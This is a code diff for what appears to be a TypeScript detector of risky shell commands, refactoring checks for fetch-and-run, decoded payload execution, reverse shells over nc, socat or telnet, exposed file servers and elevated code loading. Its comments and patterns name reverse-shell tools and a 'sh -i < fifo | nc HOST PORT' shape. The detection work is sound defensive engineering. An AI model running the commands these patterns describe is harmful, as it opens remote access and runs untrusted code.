@@ -23,6 +23,7 @@ interface FetchState {
 }
 
 export interface FetchView {
+  /** Where paths point, from the invocation's own directory. */
   ctx: PathContext;
   /** What a producer prints, when known (`printf '…' > .git/hooks/x`). */
   printed: (cmd: SimpleCommand | undefined) => Word | undefined;
@@ -37,8 +38,8 @@ const STATES = new WeakMap<object, FetchState>();
 const stateOf = (view: FetchView): FetchState =>
   STATES.get(view.lineKey) ?? STATES.set(view.lineKey, { files: new Map() }).get(view.lineKey)!;
 
-const pathOf = (text: string, inv: Invocation, view: FetchView) =>
-  absolutePath(literalWord(text.replace(/^\$PWD\/|^\$\{PWD\}\//, "./")), { ...view.ctx, cwd: inv.command.cwd });
+const pathOf = (text: string, view: FetchView) =>
+  absolutePath(literalWord(text.replace(/^\$PWD\/|^\$\{PWD\}\//, "./")), view.ctx);
 
 const texts = (words: Word[]) => words.map((w) => w.text);
 const isFetched = (w: Word) => table.FETCHED_WORD.test(w.text);
@@ -79,14 +80,14 @@ function record(inv: Invocation, view: FetchView, st: FetchState): (CodeKey | Wo
       ? "decoded_code_exec"
       : undefined;
   const keep = (text: string, k: CodeKey) => {
-    const abs = pathOf(text, inv, view);
+    const abs = pathOf(text, view);
     if (abs) st.files.set(abs, k);
   };
   for (const f of downloadedFiles(inv)) keep(f, "remote_code_exec");
   for (const r of inv.command.redirects) {
     if (!r.op.includes(">") || /^&?\d*$/.test(r.target.text)) continue;
     if (key) keep(r.target.text, key);
-    if (table.HOOK_FILES.test(pathOf(r.target.text, inv, view) ?? "")) hooks.push(key ?? view.printed(inv.command));
+    if (table.HOOK_FILES.test(pathOf(r.target.text, view) ?? "")) hooks.push(key ?? view.printed(inv.command));
   }
   const into = table.UNPACK_INTO[inv.program];
   const from = into && (fetchedArg(inv, view, st) ?? (key === "remote_code_exec" ? key : undefined));
@@ -102,11 +103,10 @@ function record(inv: Invocation, view: FetchView, st: FetchState): (CodeKey | Wo
 function fetchedArg(inv: Invocation, view: FetchView, st: FetchState): CodeKey | undefined {
   for (const w of inv.args) {
     if (w.text.startsWith("-") && !w.text.includes("=")) continue;
-    const abs = pathOf(w.text.replace(/^[\w-]+=/, ""), inv, view);
+    const abs = pathOf(w.text.replace(/^[\w-]+=/, ""), view);
     if (abs === undefined) continue;
     for (const [file, key] of st.files) if (within(abs, file)) return key;
   }
-  return undefined;
 }
 
 /** The file a shell or interpreter runs: its first operand (`-f FILE` for make), none with `-m`/`-c`/`-e`. */
@@ -117,7 +117,6 @@ function scriptArg(args: Word[]): Word | undefined {
     if (/^-[a-zA-Z]*[mceE]$|^--(eval|command)$/.test(t)) return undefined;
     if (!t.startsWith("-")) return args[i];
   }
-  return undefined;
 }
 
 /** No script, no inline code: the program is read from standard input. */
@@ -174,7 +173,6 @@ function pipedFetch(inv: Invocation): CodeKey | undefined {
     if (table.DECODER_PROGRAMS.test(p) && c.argv.some((w) => /^(-d|--decode|-D|-r)$/.test(w.text)))
       return "decoded_code_exec";
   }
-  return undefined;
 }
 
 /**
@@ -252,19 +250,17 @@ function configuredShell(inv: Invocation, view: FetchView): Finding | undefined 
 function powershell(inv: Invocation): CodeKey | undefined {
   const { program, encoded, runs, downloads } = table.POWERSHELL;
   if (!program.test(inv.program)) return undefined;
-  const t = texts(inv.args);
-  if (t.some((w) => encoded.test(w))) return "decoded_code_exec";
-  const text = t.join(" ");
+  if (inv.args.some((w) => encoded.test(w.text))) return "decoded_code_exec";
+  const text = texts(inv.args).join(" ");
   return runs.test(text) && downloads.test(text) ? "remote_code_exec" : undefined;
 }
 
 /** `sh -i < fifo | nc HOST PORT`: an interactive shell whose input and output travel over a socket. */
 function shellToSocket(inv: Invocation): Finding | undefined {
-  if (!/^(nc|ncat|netcat|socat|telnet|openssl)$/.test(inv.program)) return undefined;
-  const interactive = (c: SimpleCommand) => c.argv.some((w) => /^-[a-z]*i[a-z]*$/.test(w.text));
-  return upstream(inv.command).some((c) => isShell(programOf(c)) && interactive(c))
-    ? { key: "remote_access", reason: `an interactive shell piped to ${inv.program}` }
-    : undefined;
+  const interactiveShell = (c: SimpleCommand) =>
+    isShell(programOf(c)) && c.argv.some((w) => /^-[a-z]*i[a-z]*$/.test(w.text));
+  if (/^(nc|ncat|netcat|socat|telnet|openssl)$/.test(inv.program) && upstream(inv.command).some(interactiveShell))
+    return { key: "remote_access", reason: `an interactive shell piped to ${inv.program}` };
 }
 
 /** A terminal shown on another machine's display, or a file server of a directory the task does not own. */
@@ -276,7 +272,7 @@ function opensAccess(inv: Invocation, view: FetchView): Finding | undefined {
   const server = FILE_SERVERS[inv.program.replace(/[\d.]+$/, "")];
   if (!server?.serves.test(t.join(" ")) || server.local.test(t.join(" "))) return undefined;
   const dir = optionValue(t, server.dir) ?? ".";
-  const where = classifyPath(literalWord(dir), { ...view.ctx, cwd: inv.command.cwd });
+  const where = classifyPath(literalWord(dir), view.ctx);
   if (!/^(system|home|home-secret|ssh)$/.test(where)) return undefined;
   return { key: "remote_access", reason: `${inv.program} serves ${dir} to the network` };
 }
@@ -291,8 +287,7 @@ function runsComputed(inv: Invocation, view: FetchView, st: FetchState): Finding
 /** `sudo PYTHONPATH=/tmp/x python3 …`: code loaded from outside the task under raised rights. */
 function elevatedCodePath(inv: Invocation, view: FetchView): Finding | undefined {
   const loads = inv.command.argv.map((w) => table.CODE_PATH_ENV.exec(w.text)?.[2]).find((v) => v !== undefined);
-  if (!inv.elevated || !loads) return undefined;
-  if (classifyPath(literalWord(loads), { ...view.ctx, cwd: inv.command.cwd }) === "inside") return undefined;
+  if (!inv.elevated || !loads || classifyPath(literalWord(loads), view.ctx) === "inside") return undefined;
   return { key: "privilege_grant", reason: `${inv.program} runs with raised rights, loading code from ${loads}` };
 }
 
